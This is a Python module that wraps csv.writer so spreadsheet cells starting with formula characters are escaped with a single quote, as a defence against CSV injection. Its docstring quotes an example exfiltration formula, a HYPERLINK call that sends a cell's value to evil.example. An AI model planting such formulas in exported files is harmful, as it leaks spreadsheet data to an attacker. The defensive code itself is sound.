"""The one CSV writer of the product: spreadsheets read every cell as data, never a formula.

Excel, LibreOffice and Google Sheets run a cell that starts with `=`, `+`, `-` or `@` as a
formula, and a leading tab or carriage return can hide one; a candidate's event detail such as
`=HYPERLINK("http://evil.example/?"&A1,"click")` would reach the reviewer's spreadsheet live.
Per OWASP's "CSV Injection" guidance, such a text cell is written with a leading single quote
(spreadsheets show it as text). Numbers pass as they are: they cannot carry a formula, and
nothing else we write ourselves (ISO times, keys, names of types) starts with those
characters. defusedcsv was considered: it leaves a leading tab or carriage return alone and
rewrites every `|` of an escaped cell, while the rule is this short.
"""

import csv
from collections.abc import Iterable

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """The cell as it is written: None as empty, numbers unchanged, text that would start a
    formula behind a single quote."""
    if value is None:
        return ""
    if isinstance(value, int | float) and not isinstance(value, bool):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_START) else text


class SafeWriter:
    """`csv.writer`'s writerow/writerows, every cell through `safe_cell`."""

    def __init__(self, out, **fmtparams):
        self._writer = csv.writer(out, **fmtparams)

    def writerow(self, row: Iterable):
        return self._writer.writerow([safe_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out, **fmtparams) -> SafeWriter:
    """Use in place of `csv.writer` for every CSV a user downloads."""
    return SafeWriter(out, **fmtparams)
